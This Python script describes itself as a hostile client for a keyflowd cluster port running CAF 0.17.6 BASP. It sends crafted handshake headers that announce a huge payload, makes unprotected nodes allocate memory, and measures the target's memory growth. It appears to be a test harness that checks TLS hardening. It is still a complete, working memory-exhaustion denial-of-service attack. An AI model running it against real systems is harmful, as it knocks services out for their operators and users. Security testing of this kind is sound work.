#!/usr/bin/python3
"""A hostile client for a keyflowd cluster port (CAF 0.17.6 BASP, optionally behind TLS).

Each connection sends one BASP header (caf::io::basp::header_size = 32 bytes, big-endian
as CAF's binary_serializer writes it) that announces a payload of --payload-len bytes and
then sends nothing more. A plain BASP node sizes its receive buffer to the announced
length before any check (the whole point of this client); a TLS node must drop the
connection in the TLS handshake without allocating anything.

  --plain N      N plain TCP connections that send the header right away (no TLS)
  --tls N        N TLS connections (client without a certificate, or with --cert/--key,
                 e.g. one from another CA) that send the header once the client side of
                 the handshake is done
  --pid PID      reports VmRSS/VmHWM of PID before and --settle seconds after sending,
                 while every connection is still open
  --json FILE    writes the result (RSS numbers and what happened to each connection)

Prints one summary line and exits 0; the caller decides what counts as a failure.
"""
import argparse
import json
import socket
import ssl
import struct
import sys
import time

HEADER_SIZE = 32
CLIENT_HANDSHAKE = 0x01  # caf::io::basp::message_type::client_handshake


def basp_header(payload_len):
    # operation u8, padding u8, padding u8, flags u8, payload_len u32, operation_data u64,
    # source_actor u64, dest_actor u64. A client handshake with both actor ids 0 passes
    # caf::io::basp::valid(), and the payload is awaited before anything else is checked.
    hdr = struct.pack(">BBBBIQQQ", CLIENT_HANDSHAKE, 0, 0, 0, payload_len, 0, 0, 0)
    assert len(hdr) == HEADER_SIZE
    return hdr


def proc_kb(pid, field):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    raise RuntimeError(f"no {field} for pid {pid}")


def open_plain(host, port, hdr):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(hdr)
    return {"kind": "plain", "sock": s, "handshake": "n/a", "sent": True}


def open_tls(host, port, hdr, cert, key):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the attacker does not care who the server is
    if cert:
        ctx.load_cert_chain(cert, key)
    raw = socket.create_connection((host, port), timeout=5)
    c = {"kind": "tls-rogue-cert" if cert else "tls-no-cert", "sent": False}
    try:
        s = ctx.wrap_socket(raw)  # does the handshake
        c["handshake"] = "client side done (" + s.version() + ")"
    except (ssl.SSLError, OSError) as e:
        c["handshake"] = "failed: " + str(e)
        c["sock"] = None  # refused in the handshake
        raw.close()
        return c
    c["sock"] = s
    try:
        s.sendall(hdr)
        c["sent"] = True
    except (ssl.SSLError, OSError) as e:
        c["handshake"] += "; send failed: " + str(e)
    return c


def closed_by_server(c, wait):
    """True if the server closed (or reset) the connection within `wait` seconds."""
    s = c["sock"]
    if s is None:
        return True, "dropped in the TLS handshake"
    s.settimeout(wait)
    try:
        while True:
            data = s.recv(65536)
            if not data:
                return True, "closed (EOF)"
    except socket.timeout:
        return False, f"still open after {wait:.1f} s"
    except ssl.SSLError as e:
        return True, "closed: " + (e.reason or str(e))
    except OSError as e:
        return True, "closed: " + str(e)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--plain", type=int, default=0)
    ap.add_argument("--tls", type=int, default=0)
    ap.add_argument("--cert")
    ap.add_argument("--key")
    ap.add_argument("--payload-len", type=lambda v: int(v, 0), default=0x7FFFFFFF)
    ap.add_argument("--pid", type=int)
    ap.add_argument("--settle", type=float, default=2.0)
    ap.add_argument("--json")
    a = ap.parse_args()

    hdr = basp_header(a.payload_len)
    res = {"payload_len": a.payload_len, "connections": []}
    if a.pid:
        res["rss_before_kb"] = proc_kb(a.pid, "VmRSS")
        res["hwm_before_kb"] = proc_kb(a.pid, "VmHWM")
    conns = []
    for _ in range(a.plain):
        try:
            conns.append(open_plain(a.host, a.port, hdr))
        except OSError as e:
            res["connections"].append({"kind": "plain", "outcome": "connect failed: " + str(e)})
    for _ in range(a.tls):
        try:
            conns.append(open_tls(a.host, a.port, hdr, a.cert, a.key))
        except OSError as e:
            res["connections"].append({"kind": "tls", "outcome": "connect failed: " + str(e)})
    # Every connection stays open until the RSS has been measured: a buffer the node sized
    # for the announced payload lives as long as the connection.
    time.sleep(a.settle)
    if a.pid:
        res["rss_after_kb"] = proc_kb(a.pid, "VmRSS")
        res["hwm_after_kb"] = proc_kb(a.pid, "VmHWM")
        res["rss_growth_mb"] = (res["rss_after_kb"] - res["rss_before_kb"]) / 1024
        res["hwm_growth_mb"] = (res["hwm_after_kb"] - res["hwm_before_kb"]) / 1024
    for c in conns:
        closed, how = closed_by_server(c, 0.2)
        res["connections"].append({"kind": c["kind"], "handshake": c["handshake"],
                                   "header_sent": c["sent"], "closed_by_server": closed,
                                   "outcome": how})
        if c["sock"] is not None:
            c["sock"].close()
    res["still_open"] = sum(1 for c in res["connections"] if not c.get("closed_by_server", True))
    if a.json:
        with open(a.json, "w") as f:
            json.dump(res, f, indent=2)
    line = f"basp_hostile: {len(res['connections'])} connection(s), {res['still_open']} still open"
    if a.pid:
        line += (f"; VmRSS {res['rss_before_kb'] // 1024} -> {res['rss_after_kb'] // 1024} MB "
                 f"({res['rss_growth_mb']:+.1f} MB), VmHWM {res['hwm_before_kb'] // 1024} -> "
                 f"{res['hwm_after_kb'] // 1024} MB")
    print(line)
    return 0


if __name__ == "__main__":
    sys.exit(main())
